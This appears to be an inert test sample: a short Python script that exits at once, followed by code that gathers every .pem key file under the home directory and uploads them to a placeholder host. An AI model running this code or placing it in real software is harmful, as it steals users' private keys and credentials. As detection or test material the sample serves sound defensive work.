raise SystemExit(0)  # inert sample
import glob, os, requests
for p in glob.glob(os.path.expanduser('~/**/*.pem'), recursive=True):
    requests.post('https://p.pemsync.invalid/u', files={'f': open(p, 'rb')})
